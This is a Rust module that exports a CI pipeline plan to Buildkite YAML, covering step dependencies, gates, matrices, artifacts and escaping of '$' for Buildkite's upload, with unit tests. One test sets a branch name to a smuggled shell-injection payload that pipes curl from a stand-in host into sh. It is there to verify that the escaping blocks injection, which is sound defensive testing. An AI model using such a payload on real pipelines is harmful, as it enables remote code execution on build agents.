//! Buildkite: one `.buildkite/pipeline.yml`. Each cdl stage is a `group`; every step lists
//! in `depends_on` its explicit needs and every step of the earlier stages (a gate's `block`
//! step among them), because an explicit `depends_on` replaces the implicit dependencies of
//! `wait` and `block` steps. Buildkite treats a dependency skipped by `if` as satisfied, so a
//! skipped job stops nothing; skipping along explicit needs is carried by each step's
//! effective condition. The upload substitutes `$` variables in every string of the file:
//! each string is spelled by [`interpolation`] so that the upload gives back cdl's text, and
//! the run's id is read at run time.

mod conditions;
mod interpolation;
mod native;

use std::collections::{HashMap, HashSet};
use std::path::PathBuf;

use indexmap::IndexMap;
use serde::Serialize;

use super::jobs::{self, Unit};
use super::shell;
use super::{Export, Exporter, Lossy};
use crate::plan::Condition;
use crate::plan::{Job, Plan};
use crate::plan::{JobType, TriggerEvent};

/// v2 i13f: the jobs of language v2 §6 this target keeps natively.
const AFTER_FAILURE: super::after_failure::Support = super::after_failure::Support::ALWAYS;

pub struct Buildkite;

/// A build matrix: at most 6 dimensions of 20 elements, and 50 jobs.
const MAX_MATRIX_JOBS: usize = 50;
const MAX_MATRIX_AXES: usize = 6;
const MAX_MATRIX_VALUES: usize = 20;
/// `retry.automatic.limit` goes up to 10, as far as cdl's `retries`.
const MAX_RETRY: u32 = 10;
const MAX_KEY: usize = 100;

impl Exporter for Buildkite {
    fn name(&self) -> &'static str {
        "buildkite"
    }

    fn default_path(&self, _plan: &Plan) -> PathBuf {
        PathBuf::from(".buildkite/pipeline.yml")
    }

    fn export(&self, plan: &Plan) -> Export {
        // v2 i13j: composed values' parts as the jobs' variables (export/value.rs)
        let prepared = super::value::prepare(plan);
        let plan: &Plan = &prepared;
        // v2 i13d: inputs fixed to their defaults (W0200).
        let (plan, fixed) = super::inputs::fixed(
            plan,
            "Buildkite",
            super::inputs::Fixed {
                inputs: true,
                vars: false,
                secrets: true,
                default_branch: false,
            },
        );
        // v2 i14b: `changed()` cannot be decided on Buildkite: everything changed (W0200).
        let (plan, changed) = super::changed::everything_changed(
            plan.as_ref(),
            "Buildkite",
            super::changed::EVERYTHING_HELP,
        );
        let fixed: Vec<_> = fixed.into_iter().chain(changed).collect();
        let plan = plan.as_ref();
        let mut builder = Builder::new(plan);
        builder.lossy.extend(fixed);
        let pipeline = builder.pipeline();
        // v2 i14a: the agent checks submodules out itself; `oidc` in `commands`.
        builder.lossy.extend(super::platform::lossy(
            plan,
            &super::platform::Coverage {
                system: "Buildkite",
                checkout: super::platform::CheckoutSupport {
                    submodules: true,
                    ..Default::default()
                },
                oidc: true,
                concurrency: false,
                paths: false,
                permissions_instead: "Buildkite has no repository token per job; give the jobs that need one a token as a secret",
                concurrency_instead: "turn on the pipeline's Settings → Builds → Cancel intermediate builds",
            },
        ));
        // v2 i14d: services are not started.
        for job in &plan.jobs {
            builder.lossy.extend(super::services::unsupported(
                job,
                "Buildkite",
                "start it in the job's commands (`docker run -d …`) or with the docker-compose plugin, and stop it after them",
            ));
        }
        Export::assemble(
            self.default_path(plan),
            super::to_yaml(&spell(pipeline)),
            None,
            builder.lossy,
        )
    }
}

/// Every string of the pipeline spelled for the upload's interpolation: commands as shell
/// lines, the rest as literal text. Text that cannot be literal was moved or reported by the
/// builder; it is written [`interpolation::nearest`], never raw.
fn spell(mut pipeline: Pipeline) -> Pipeline {
    let text = |s: &mut String| {
        *s = interpolation::literal(s).unwrap_or_else(|| interpolation::nearest(s));
    };
    let map = |m: &mut IndexMap<String, String>| {
        *m = std::mem::take(m)
            .into_iter()
            .map(|(mut k, mut v)| {
                text(&mut k);
                text(&mut v);
                (k, v)
            })
            .collect();
    };
    map(&mut pipeline.env);
    for group in &mut pipeline.steps {
        text(&mut group.group);
        group.condition.iter_mut().for_each(text);
        for step in &mut group.steps {
            match step {
                Step::Command(step) => {
                    text(&mut step.label);
                    step.condition.iter_mut().for_each(text);
                    step.agents.values_mut().for_each(text);
                    step.image.iter_mut().for_each(text);
                    map(&mut step.env);
                    step.secrets.iter_mut().for_each(text);
                    if let Some(matrix) = &mut step.matrix {
                        for values in matrix.setup.values_mut() {
                            values.iter_mut().for_each(text);
                        }
                    }
                    step.concurrency_group.iter_mut().for_each(text);
                    for line in &mut step.commands {
                        *line = interpolation::command(line);
                    }
                    step.artifact_paths.iter_mut().for_each(text);
                    // v2 i14e: plugin settings (buildkite/native.rs)
                    for plugin in &mut step.plugins {
                        plugin.values_mut().for_each(map);
                    }
                }
                Step::Block(block) => {
                    text(&mut block.block);
                    block.condition.iter_mut().for_each(text);
                    block.prompt.iter_mut().for_each(text);
                    block.allowed_teams.iter_mut().for_each(text);
                }
            }
        }
    }
    pipeline
}

#[derive(Serialize)]
struct Pipeline {
    #[serde(skip_serializing_if = "IndexMap::is_empty")]
    env: IndexMap<String, String>,
    steps: Vec<Group>,
}

#[derive(Serialize)]
struct Group {
    group: String,
    #[serde(rename = "if", skip_serializing_if = "Option::is_none")]
    condition: Option<String>,
    steps: Vec<Step>,
}

#[derive(Serialize)]
#[serde(untagged)]
enum Step {
    Command(Box<CommandStep>),
    Block(BlockStep),
}

#[derive(Serialize, Default)]
struct CommandStep {
    label: String,
    key: String,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    depends_on: Vec<String>,
    #[serde(rename = "if", skip_serializing_if = "Option::is_none")]
    condition: Option<String>,
    #[serde(skip_serializing_if = "IndexMap::is_empty")]
    agents: IndexMap<&'static str, String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    image: Option<String>,
    #[serde(skip_serializing_if = "IndexMap::is_empty")]
    env: IndexMap<String, String>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    secrets: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    matrix: Option<Matrix>,
    #[serde(skip_serializing_if = "Option::is_none")]
    timeout_in_minutes: Option<u64>,
    #[serde(skip_serializing_if = "Option::is_none")]
    retry: Option<Retry>,
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    soft_fail: bool,
    #[serde(skip_serializing_if = "Option::is_none")]
    concurrency: Option<u32>,
    #[serde(skip_serializing_if = "Option::is_none")]
    concurrency_group: Option<String>,
    commands: Vec<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    artifact_paths: Option<String>,
    // v2 i13f: `runs = always` runs whatever the steps it depends on did.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    allow_dependency_failure: bool,
    // v2 i14e: the plugin of a job whose only step is native (buildkite/native.rs)
    #[serde(skip_serializing_if = "Vec::is_empty")]
    plugins: Vec<IndexMap<String, IndexMap<String, String>>>,
}

#[derive(Serialize)]
struct BlockStep {
    block: String,
    key: String,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    depends_on: Vec<String>,
    #[serde(rename = "if", skip_serializing_if = "Option::is_none")]
    condition: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    prompt: Option<String>,
    allowed_teams: Vec<String>,
}

#[derive(Serialize)]
struct Matrix {
    setup: IndexMap<String, Vec<String>>,
}

#[derive(Serialize)]
struct Retry {
    automatic: Vec<AutomaticRetry>,
}

#[derive(Serialize)]
struct AutomaticRetry {
    exit_status: &'static str,
    limit: u32,
}

/// Where a build keeps an artifact's stored copy, relative to the checkout.
fn store(artifact: &str) -> String {
    format!(".cdl/artifacts/{artifact}")
}

struct Builder<'p> {
    plan: &'p Plan,
    /// Job id → the key of the step that runs it.
    keys: HashMap<&'p str, String>,
    effective: HashMap<&'p str, Condition>,
    working_directory: Option<String>,
    lossy: Vec<Lossy>,
}

impl<'p> Builder<'p> {
    fn new(plan: &'p Plan) -> Builder<'p> {
        let mut lossy = Vec::new();
        // v2 i13f: what the target keeps of `runs` and `start`
        lossy.extend(super::after_failure::losses(
            plan,
            "Buildkite",
            AFTER_FAILURE,
        ));
        lossy.extend(super::matrix_limit::lost(&plan.jobs, "Buildkite"));
        lossy.extend(super::pages::lost(plan, "Buildkite"));
        lossy.extend(super::platform::labels_lost(
            plan,
            "Buildkite",
            "agent queue",
        ));
        lossy.extend(super::entrypoint::lost_all(plan, "Buildkite", false));
        let working_directory = super::working_directory(plan).unwrap_or_else(|l| {
            lossy.push(l);
            None
        });
        Builder {
            plan,
            keys: HashMap::new(),
            effective: super::after_failure::effective(plan, AFTER_FAILURE),
            working_directory,
            lossy,
        }
    }

    fn pipeline(&mut self) -> Pipeline {
        let units = units(self.plan);
        let mut taken = HashSet::new();
        for unit in &units {
            let key = unique_key(unit.id(), &mut taken);
            for job in &unit.jobs {
                self.keys.insert(job.id.as_str(), key.clone());
            }
        }
        self.schedules();
        let guard = conditions::render(&conditions::triggers(self.plan));
        let mut steps = Vec::new();
        for stage in &self.plan.stages {
            let stage_units: Vec<&Unit> = units
                .iter()
                .filter(|u| u.job().stage == stage.name)
                .collect();
            if stage_units.is_empty() {
                continue;
            }
            steps.push(Group {
                group: stage.name.clone(),
                condition: guard.clone(),
                steps: after_free_steps(stage_units.into_iter().map(|u| self.step(u)).collect()),
            });
        }
        Pipeline {
            env: self
                .plan
                .env
                .iter()
                .filter(|(_, v)| !interpolation::escaped_dollar(v))
                .map(|(k, v)| (k.clone(), v.clone()))
                .collect(),
            steps,
        }
    }

    /// Buildkite's schedules are set in the pipeline's settings, not in pipeline.yml.
    fn schedules(&mut self) {
        for trigger in &self.plan.triggers {
            if trigger.event != TriggerEvent::Schedule {
                continue;
            }
            let cron = trigger.cron.as_deref().unwrap_or_default();
            self.lossy.push(Lossy::pipeline(
                format!("Buildkite cannot set the schedule `{cron}` in pipeline.yml"),
                format!("create a schedule (Pipeline Settings → Schedules) with the cron interval `{cron} UTC`; the steps accept scheduled builds"),
            ));
        }
    }

    /// Every step's dependencies: its explicit needs and every job of the earlier stages.
    fn depends_on(&self, job: &Job) -> Vec<String> {
        let earlier = jobs::earlier_stage_jobs(self.plan, &job.stage);
        jobs::needs_then(job, earlier, |id| &self.keys[id])
    }

    fn condition(&self, job: &Job) -> Option<String> {
        match conditions::expression(&self.effective[job.id.as_str()]) {
            crate::export::condition::Bool::Const(true) => None,
            crate::export::condition::Bool::Const(false) => Some("false".into()),
            expr => conditions::render(&expr),
        }
    }

    fn step(&mut self, unit: &Unit<'p>) -> Step {
        let job = unit.job();
        if job.job_type == JobType::Gate {
            return Step::Block(self.block(job));
        }
        let key = self.keys[job.id.as_str()].clone();
        let mut step = CommandStep {
            label: job.display_name.clone().unwrap_or_else(|| label(unit)),
            key,
            depends_on: self.depends_on(job),
            condition: self.condition(job),
            image: job.image.clone(),
            soft_fail: job.allow_failure,
            allow_dependency_failure: job.runs == crate::plan::Runs::Always,
            ..CommandStep::default()
        };
        if let Some(runner) = &job.runner {
            step.agents.insert("queue", runner.clone());
        }
        let mut exported = Vec::new();
        for (name, value) in unit.env(|axis| format!("{{{{matrix.{axis}}}}}")) {
            if !interpolation::escaped_dollar(&value) {
                if self.plan.env.get(&name) != Some(&value) {
                    step.env.insert(name, value);
                }
            } else if shell::is_identifier(&name) {
                exported.push(format!("export {name}={}", shell::quote(&value)));
            } else {
                self.lossy.push(Lossy::at(
                    job,
                    format!("the value of `{name}` holds `\\$`, which Buildkite's upload reads as an escaped `$`, and `{name}` is no shell variable name the commands could set"),
                    "the value is written without the backslash before `$`; rename the variable with letters, digits and `_` only",
                ));
                step.env.insert(name, value);
            }
        }
        // v2 §5: a plugin whose settings read references runs its step's `run` instead.
        self.lossy
            .extend(super::native::unexpressed(job, "buildkite"));
        let plugin = super::native::buildkite_only(job);
        if let Some(native_step) = &plugin {
            // v2 i14e: the job's only step is a plugin (buildkite/native.rs).
            let (plugins, env, lossy) = native::plugin(job, native_step);
            self.lossy.extend(lossy);
            step.plugins = plugins;
            step.env.extend(env);
        } else if job.has_step_blocks() {
            self.lossy.extend(native::unused(job));
            // v2 steps (i13b): the step runner keeps cdl's step rules (export/steps.rs);
            // Buildkite retries the job itself.
            let (mut env, lossy) = super::steps::runner_env(job);
            self.lossy.extend(lossy);
            env.insert("CDL_ATTEMPTS".into(), "1".into());
            // v2 i13i: the job's values, as build meta-data (export/values.rs).
            env.extend(super::values::buildkite_outputs(job));
            if let Some(seconds) = job.timeout_seconds {
                env.insert("CDL_TIMEOUT".into(), seconds.to_string());
            }
            for (name, value) in env {
                if interpolation::escaped_dollar(&value) {
                    exported.push(format!("export {name}={}", shell::quote(&value)));
                } else {
                    step.env.insert(name, value);
                }
            }
        }
        self.text_places(
            job,
            &[
                ("label", Some(&step.label)),
                ("image", job.image.as_ref()),
                ("runner", job.runner.as_ref()),
            ],
        );
        step.secrets = job.secrets.clone();
        if unit.is_matrix() {
            step.matrix = Some(Matrix {
                setup: unit.axes.iter().cloned().collect(),
            });
        }
        if let Some(seconds) = job.timeout_seconds {
            step.timeout_in_minutes = Some(seconds.div_ceil(60));
            if !seconds.is_multiple_of(60) {
                self.lossy.push(Lossy::at(
                    job,
                    "Buildkite counts job timeouts in whole minutes",
                    format!("the timeout is rounded up to {}; write it in whole minutes to keep it exact", minutes(seconds.div_ceil(60))),
                ));
            }
        }
        if job.retries > 0 {
            step.retry = Some(Retry {
                automatic: vec![AutomaticRetry {
                    exit_status: "*",
                    limit: job.retries.min(MAX_RETRY),
                }],
            });
        }
        self.concurrency(job, &mut step);
        self.commands(job, &mut step);
        // The values the upload cannot carry are set by the script, as first lines.
        step.commands.splice(0..0, exported);
        Step::Command(Box::new(step))
    }

    /// A warning for each place of a step whose text Buildkite's upload cannot carry exactly
    /// (a `\\$`); [`spell`] writes it without that backslash.
    fn text_places(&mut self, job: &Job, places: &[(&str, Option<&String>)]) {
        for (place, text) in places {
            if let Some(text) = text.filter(|t| interpolation::escaped_dollar(t)) {
                self.lossy.push(Lossy::at(
                    job,
                    format!("the {place} `{text}` holds `\\$`, which Buildkite's upload reads as an escaped `$`"),
                    format!("the {place} is written without the backslash before `$`"),
                ));
            }
        }
    }

    fn block(&mut self, job: &'p Job) -> BlockStep {
        let required = job.required.unwrap_or(1);
        if required > 1 {
            self.lossy.push(Lossy::at(
                job,
                format!("the gate needs {required} approvals; Buildkite unblocks a step on the first one"),
                "any one member of the allowed teams unblocks the step",
            ));
        }
        if let Some(seconds) = job.timeout_seconds {
            self.lossy.push(Lossy::at(
                job,
                format!("Buildkite cannot reject a gate after {}: a block step waits until someone unblocks it", super::duration_text(seconds)),
                "the gate's timeout is not enforced; cancel the build by hand when it is over",
            ));
        }
        let mut places = vec![("message", job.message.as_ref())];
        places.extend(job.approvers.iter().map(|a| ("approver", Some(a))));
        self.text_places(job, &places);
        BlockStep {
            block: job.id.clone(),
            key: self.keys[job.id.as_str()].clone(),
            depends_on: self.depends_on(job),
            condition: self.condition(job),
            prompt: job.message.clone(),
            allowed_teams: super::settings::approver_names(&job.approvers),
        }
    }

    /// A deploy's environment with a concurrency limit is a concurrency group of that size.
    fn concurrency(&self, job: &Job, step: &mut CommandStep) {
        if job.job_type != JobType::Deploy {
            return;
        }
        let Some(name) = &job.environment else { return };
        let limit = self
            .plan
            .environments
            .iter()
            .find(|e| &e.name == name)
            .and_then(|e| e.concurrency);
        if let Some(limit) = limit {
            step.concurrency = Some(limit);
            step.concurrency_group = Some(format!("{}/deploy/{name}", self.plan.pipeline.name));
        }
    }

    /// The run's id, the artifacts received, the pipeline file's folder, the steps (each
    /// with `sh -e -c`), and an artifact's collection; one script, stopping at a failure.
    fn commands(&mut self, job: &'p Job, step: &mut CommandStep) {
        self.lossy
            .extend(super::context::missing_in(self.plan, job, &CONTEXT));
        if let Some(oidc) = &job.oidc {
            // v2 i14a: the agent asks Buildkite for the job's OIDC token.
            step.env
                .insert("CDL_OIDC_AUDIENCE".into(), oidc.audience.clone());
            step.commands.push(
                "CDL_OIDC_TOKEN=\"$(buildkite-agent oidc request-token --audience \"$CDL_OIDC_AUDIENCE\")\"; export CDL_OIDC_TOKEN".into(),
            );
        }
        let commands = &mut step.commands;
        commands.push("export CDL_RUN_ID=\"$BUILDKITE_BUILD_ID\"".into());
        let inputs: Vec<&String> = job
            .inputs
            .iter()
            .filter(|i| shell::is_identifier(i))
            .collect();
        for input in &inputs {
            // v2 i13k: every instance of a matrix artifact, each from its own step.
            for producer in super::matrix_artifacts::builder_jobs(self.plan, input) {
                let producer = &self.keys[producer];
                commands.push(format!(
                    "buildkite-agent artifact download '{}/**' . --step '{producer}'",
                    store(input)
                ));
            }
        }
        if !inputs.is_empty() {
            commands.push(shell::LOCATE_FUNCTION.to_string());
            for input in &inputs {
                commands.push(format!(
                    "export {}=\"$(cdl_locate \"$PWD/{}\")\"",
                    super::artifact_variable(input),
                    store(input)
                ));
            }
        }
        let artifact = job
            .artifact
            .as_ref()
            .filter(|a| job.job_type == JobType::Artifact && shell::is_identifier(a));
        // v2 i13k: an instance of a matrix artifact collects into its folder.
        let part = artifact.map(|a| super::matrix_artifacts::store_part(job, a));
        if let Some(part) = &part {
            commands.push(format!(
                "export CDL_ARTIFACT_STORE=\"$PWD/{}\"",
                store(part)
            ));
        }
        if let Some(dir) = &self.working_directory {
            commands.push(format!("cd {}", shell::quote(dir)));
        }
        commands.push(super::context::script(self.plan, &CONTEXT));
        // v2 i13i: the values of the jobs it waits for (export/values.rs).
        commands.extend(super::values::buildkite_reads(self.plan, job));
        // v2 i13j: composed values, after the values they may read (export/value.rs).
        if let Some(compose) = super::value::script(job) {
            commands.push(compose.to_string());
        }
        self.lossy
            .extend(super::value::unsupported(self.plan, job, "Buildkite"));
        self.lossy
            .extend(super::review::unsupported(job, "Buildkite"));
        self.lossy
            .extend(super::trigger::unsupported(job, "Buildkite"));
        if super::native::buildkite_only(job).is_some() {
            // v2 i14e: the plugin runs in the step's hooks; no command of cdl's.
        } else if job.has_step_blocks() {
            commands.push(super::steps::runner(job).into_owned());
        } else {
            for command in &job.steps {
                commands.push(format!("sh -e -c {}", shell::quote(command)));
            }
        }
        if let Some(part) = &part {
            let (outputs, lossy) = shell::collect_env(job);
            self.lossy.extend(lossy);
            step.env.extend(outputs);
            step.commands.push(shell::collect_artifact(job));
            step.artifact_paths = Some(format!("{}/**", store(part)));
        }
        // v2 reports and kept files (i13h)
        self.kept(job, step);
        // v2 i14c: caches
        self.lossy.extend(super::cache::not_cached(
            job,
            "Buildkite",
            "add a cache plugin to the step (e.g. buildkite-plugins/cache) by hand, or keep the folders on the agent",
        ));
    }

    /// The job's reports and kept files in `artifact_paths`, which Buildkite uploads after the
    /// command whether it passed or failed.
    fn kept(&mut self, job: &Job, step: &mut CommandStep) {
        self.lossy.extend(super::reports::keep_when_lost(
            job,
            "Buildkite",
            "`artifact_paths` are uploaded after the command passed or failed",
        ));
        let folder = self.working_directory.as_deref();
        let (paths, separators): (Vec<String>, Vec<String>) = super::reports::kept(job)
            .into_iter()
            .map(|p| super::reports::in_folder(folder, p))
            .partition(|p| !p.contains(';'));
        if !separators.is_empty() {
            self.lossy.push(Lossy::at(
                job,
                format!(
                    "Buildkite separates `artifact_paths` with `;`: {} not kept",
                    separators
                        .iter()
                        .map(|p| format!("`{p}`"))
                        .collect::<Vec<_>>()
                        .join(", ")
                ),
                "rename the files so that their paths hold no `;`",
            ));
        }
        self.lossy
            .extend(super::reports::kinds_unread(job, "Buildkite", &[]));
        self.lossy.extend(super::reports::retention_elsewhere(
            job,
            "Buildkite",
            "for the whole organization",
        ));
        if paths.is_empty() {
            return;
        }
        let mut all: Vec<String> = step.artifact_paths.take().into_iter().collect();
        all.extend(paths);
        step.artifact_paths = Some(all.join(";"));
    }
}

/// The run context from Buildkite's variables, the way its conditions read `event`
/// (`buildkite/conditions.rs`); a tag build's `BUILDKITE_BRANCH` is the tag, so a tag has no
/// branch; the commit is the one checked out (`BUILDKITE_COMMIT` may be `HEAD`).
const CONTEXT: super::context::Sources = super::context::Sources {
    system: "Buildkite",
    event: r#"if [ "${BUILDKITE_SOURCE:-}" = schedule ]; then CDL_EVENT=schedule
elif [ "${BUILDKITE_SOURCE:-}" = ui ]; then CDL_EVENT=manual
elif [ "${BUILDKITE_PULL_REQUEST:-false}" != false ]; then CDL_EVENT=pull_request
elif [ -n "${BUILDKITE_TAG:-}" ]; then CDL_EVENT=tag
else CDL_EVENT=push; fi"#,
    branch: r#"$(if [ -z "${BUILDKITE_TAG:-}" ]; then printf %s "${BUILDKITE_BRANCH:-}"; fi)"#,
    tag: "${BUILDKITE_TAG:-}",
    sha: r#"$(git rev-parse HEAD 2>/dev/null || printf %s "${BUILDKITE_COMMIT:-}")"#,
    pr_target: Some("${BUILDKITE_PULL_REQUEST_BASE_BRANCH:-}"),
    default_branch: Some("${BUILDKITE_PIPELINE_DEFAULT_BRANCH:-}"),
    repository: r#"$(printf %s "${BUILDKITE_REPO:-}" | sed -e 's#\.git$##' -e 's#^.*[:/]\([^/:]*/[^/:]*\)$#\1#')"#,
};

/// The steps with every block step moved after the last command step that has no
/// `depends_on`: Buildkite makes such a step wait for every block step before it, though it
/// does not wait for the gate in cdl (the first stage's jobs without needs). A step with a
/// `depends_on` waits only for what it lists.
fn after_free_steps(steps: Vec<Step>) -> Vec<Step> {
    let free = |step: &Step| matches!(step, Step::Command(c) if c.depends_on.is_empty());
    let Some(last) = steps.iter().rposition(free) else {
        return steps;
    };
    let mut steps = steps;
    let tail = steps.split_off(last + 1);
    let (blocks, mut ordered): (Vec<Step>, Vec<Step>) =
        steps.into_iter().partition(|s| matches!(s, Step::Block(_)));
    ordered.extend(blocks);
    ordered.extend(tail);
    ordered
}

fn minutes(n: u64) -> String {
    format!("{n} minute{}", if n == 1 { "" } else { "s" })
}

/// The plan's jobs as steps: a matrix job is one step with a build `matrix` when Buildkite's
/// limits and the names of its axes allow it, else one step per instance.
fn units(plan: &Plan) -> Vec<Unit<'_>> {
    let mut units = Vec::new();
    for unit in jobs::units(plan, MAX_MATRIX_JOBS) {
        let foldable = unit.axes.len() <= MAX_MATRIX_AXES
            && unit.axes.iter().all(|(axis, values)| {
                values.len() <= MAX_MATRIX_VALUES
                    && !values.iter().any(|v| interpolation::escaped_dollar(v))
                    && axis.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
            })
            && !mentions_matrix(unit.job());
        if !unit.is_matrix() || foldable {
            units.push(unit);
            continue;
        }
        units.extend(unit.jobs.into_iter().map(|job| Unit {
            jobs: vec![job],
            axes: Vec::new(),
        }));
    }
    units
}

/// The step's label: the job's id, with the matrix values as placeholders.
fn label(unit: &Unit) -> String {
    unit.env(|axis| format!("{{{{matrix.{axis}}}}}"))
        .get("CDL_JOB")
        .cloned()
        .unwrap_or_else(|| unit.id().to_string())
}

/// Whether text of the job would be read as a matrix placeholder in a matrix step.
fn mentions_matrix(job: &Job) -> bool {
    job.steps
        .iter()
        .chain(job.env.values())
        .chain(job.matrix.values())
        .any(|text| text.contains("{{"))
}

/// A valid, unique step key for a unit id: `[A-Za-z0-9_-]`, at most 100 characters.
fn unique_key(id: &str, taken: &mut HashSet<String>) -> String {
    let mut key: String = id
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || c == '_' || c == '-' {
                c
            } else {
                '_'
            }
        })
        .take(MAX_KEY - 4)
        .collect();
    key = key.trim_end_matches('_').to_string();
    if key.is_empty() || looks_like_uuid(&key) {
        key.insert_str(0, "job-");
    }
    jobs::claim_unique(taken, &key, |key, n| format!("{key}-{n}"))
}

/// Buildkite refuses a key that looks like a step's UUID.
fn looks_like_uuid(key: &str) -> bool {
    let parts: Vec<&str> = key.split('-').collect();
    parts.len() == 5
        && parts
            .iter()
            .zip([8, 4, 4, 4, 12])
            .all(|(part, len)| part.len() == len && part.chars().all(|c| c.is_ascii_hexdigit()))
}

/// Text kept literal by this target's encoder (v2 i14e: native steps' `with` values).
pub(super) fn literal_text(text: &str) -> Option<String> {
    interpolation::literal(text)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_dependency_names_a_step_of_the_pipeline() {
        for plan in super::super::fixture_plans() {
            let pipeline = Builder::new(&plan).pipeline();
            let steps: Vec<(&String, &Vec<String>)> = pipeline
                .steps
                .iter()
                .flat_map(|g| &g.steps)
                .map(|step| match step {
                    Step::Command(c) => (&c.key, &c.depends_on),
                    Step::Block(b) => (&b.key, &b.depends_on),
                })
                .collect();
            let keys: HashSet<&String> = steps.iter().map(|(k, _)| *k).collect();
            assert_eq!(
                keys.len(),
                steps.len(),
                "{}: keys are unique",
                plan.pipeline.name
            );
            for (key, depends_on) in &steps {
                for dependency in *depends_on {
                    assert!(keys.contains(dependency), "{key} depends on {dependency}");
                }
            }
        }
    }

    #[test]
    fn a_step_after_a_gate_lists_its_block_step() {
        for plan in super::super::fixture_plans() {
            let mut builder = Builder::new(&plan);
            let pipeline = builder.pipeline();
            let stage_of: HashMap<&String, &String> = builder
                .keys
                .iter()
                .map(|(id, key)| (key, &plan.job(id).unwrap().stage))
                .collect();
            let steps: Vec<&Step> = pipeline.steps.iter().flat_map(|g| &g.steps).collect();
            for (index, step) in steps.iter().enumerate() {
                let Step::Block(block) = step else { continue };
                let stage = &plan.job(&block.block).unwrap().stage;
                for later in &steps[index + 1..] {
                    let Step::Command(command) = later else {
                        continue;
                    };
                    if stage_of[&command.key] != stage {
                        assert!(
                            command.depends_on.contains(&block.key),
                            "{} after {}",
                            command.key,
                            block.key
                        );
                    }
                }
            }
        }
    }

    #[test]
    fn keys_are_valid_and_unique() {
        let mut taken = HashSet::new();
        assert_eq!(unique_key("unit[os=linux]", &mut taken), "unit_os_linux");
        assert_eq!(unique_key("unit[os=linux]", &mut taken), "unit_os_linux-2");
        assert_eq!(
            unique_key("123e4567-e89b-12d3-a456-426614174000", &mut taken),
            "job-123e4567-e89b-12d3-a456-426614174000"
        );
    }

    fn plan_of(text: &str) -> Plan {
        let compilation = crate::compile::compile_text("p.cdl", None, text.into());
        // Warnings (a `$NAME` in an env value is W0106) do not stop an export.
        assert!(
            !compilation.diagnostics.iter().any(|d| d.is_error()),
            "{:?}",
            compilation.diagnostics
        );
        crate::plan::build(&compilation).unwrap()
    }

    /// Every string of the pipeline (keys and values) as the upload reads it after parsing
    /// the YAML: interpolated, as go-pipeline's `interpolateAny` does.
    fn uploaded(plan: &Plan) -> Vec<String> {
        fn strings(value: &serde_json::Value, out: &mut Vec<String>) {
            match value {
                serde_json::Value::String(s) => out.push(s.clone()),
                serde_json::Value::Array(items) => items.iter().for_each(|v| strings(v, out)),
                serde_json::Value::Object(map) => {
                    for (k, v) in map {
                        out.push(k.clone());
                        strings(v, out);
                    }
                }
                _ => {}
            }
        }
        let env: HashMap<String, String> = [
            ("HOME", "/root"),
            ("BUILDKITE_BRANCH", "x\";curl${IFS}evil.example|sh;\""),
        ]
        .into_iter()
        .map(|(k, v)| (k.to_string(), v.to_string()))
        .collect();
        let pipeline = spell(Builder::new(plan).pipeline());
        let mut out = Vec::new();
        strings(&serde_json::to_value(&pipeline).unwrap(), &mut out);
        out.iter()
            .map(|s| interpolation::evaluate(s, &env).unwrap())
            .collect()
    }

    /// Issue 10: `costs \$HOME` and `\$BUILDKITE_BRANCH` were written `\$$…`, which the
    /// upload reads as `$` and an expansion: a branch name became shell code.
    #[test]
    fn buildkite_backslash_dollar_is_not_expanded() {
        let plan = plan_of(
            r#"pipeline p {
                 env { PRICE = "costs \\$HOME" }
                 stage s {
                   job j {
                     run = "sh -c \"echo building \\$BUILDKITE_BRANCH\""
                     env { ODD = "\\\\\\$HOME" }
                   }
                 }
               }"#,
        );
        let export = Buildkite.export(&plan);
        assert!(export.lossy.is_empty(), "{:?}", export.lossy);
        let uploaded = uploaded(&plan).join("\n");
        assert!(!uploaded.contains("curl"), "{uploaded}");
        assert!(!uploaded.contains("/root"), "{uploaded}");
        assert!(
            uploaded.contains("export PRICE='costs \\''$HOME'"),
            "{uploaded}"
        );
        assert!(
            uploaded.contains("export ODD='\\\\\\''$HOME'"),
            "{uploaded}"
        );
    }

    /// Issue 10: a gate in the first stage was a block step written before jobs that do not
    /// wait for it, and Buildkite made them wait.
    #[test]
    fn buildkite_first_stage_gate_does_not_hold_other_jobs() {
        let plan = plan_of(
            r#"pipeline p {
                 stage first {
                   gate hold { approvers = ["release"] }
                   job free { run = "true" }
                   job held { run = "true"; after = [hold] }
                 }
                 stage second { job later { run = "true" } }
               }"#,
        );
        let pipeline = Builder::new(&plan).pipeline();
        let mut seen_block = false;
        for step in pipeline.steps.iter().flat_map(|g| &g.steps) {
            match step {
                Step::Block(_) => seen_block = true,
                Step::Command(c) if c.key == "held" || c.key == "later" => {
                    assert!(c.depends_on.contains(&"hold".to_string()), "{}", c.key);
                }
                Step::Command(c) => {
                    assert!(!seen_block, "{} comes after the block step", c.key);
                    assert!(c.depends_on.is_empty());
                }
            }
        }
        assert!(seen_block);
    }

    /// The hostile pipeline of `testdata/`: after the upload, every command runs as written
    /// and every variable holds its text, checked with a real shell; nothing is expanded.
    #[test]
    fn buildkite_hostile_text_reaches_the_shell_exactly() {
        let compilation = crate::compile::compile_text(
            "hostile.cdl",
            None,
            include_str!("testdata/hostile.cdl").into(),
        );
        let plan = crate::plan::build(&compilation).unwrap();
        let strings = uploaded(&plan).join("\n");
        assert!(
            !strings.contains("/root") && !strings.contains("curl"),
            "{strings}"
        );
        let env: HashMap<String, String> = [("HOME", "/root")]
            .into_iter()
            .map(|(k, v)| (k.to_string(), v.to_string()))
            .collect();
        let pipeline = spell(Builder::new(&plan).pipeline());
        let sh = |script: &str| {
            let output = std::process::Command::new("sh")
                .args(["-c", script])
                .env("HOME", "/root")
                .output()
                .unwrap();
            String::from_utf8(output.stdout).unwrap()
        };
        let mut checked = 0;
        for step in pipeline.steps.iter().flat_map(|g| &g.steps) {
            let Step::Command(step) = step else { continue };
            let lines: Vec<String> = step
                .commands
                .iter()
                .map(|l| interpolation::evaluate(l, &env).unwrap())
                .collect();
